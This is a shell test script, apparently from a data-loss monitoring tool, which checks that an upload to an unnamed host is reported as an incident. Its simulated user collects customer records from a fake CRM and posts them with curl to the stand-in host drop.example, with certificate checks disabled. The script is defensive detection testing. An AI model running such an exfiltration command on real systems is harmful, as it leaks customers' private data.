#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# An unknown host. Customer rows go to a server that the policy does not name and no DNS answer has
# named either: the name is the one that the sender's own TLS hello and HTTP request ask for.
# shellcheck source=tests/support/fixture.sh
. "$(dirname "$0")/../support/fixture.sh"
set_the_stage

crm_serves crm.test
cloud_serves meet.test
weir_watches

alice_does <<'END'
for number in 1 2 3; do
	curl -sS "https://crm.test/policy/P20207000$number" >>customers.json
done
curl -sSk --data-binary @customers.json --resolve drop.example:443:10.77.0.50 https://drop.example/upload
END
rows_bytes=$(stat -c %s "$home/customers.json")
then_it "the rows have arrived" test "$(received_bytes meet.test)" -ge "$rows_bytes"

soon "one incident" incidents_say "len(d) == 1"
soon "it names the host that the TLS hello asked for, and who named it" \
	incidents_say "[(s['name'], s['host'], s['host_source'], s['address']) for s in d[0]['sinks']] == [('', 'drop.example', 'tls_server_name', '10.77.0.50')]"
soon "the paragraph says so" \
	incidents_say "'drop.example (10.77.0.50, named by its TLS hello; not named by the policy)' in d[0]['explanation']"
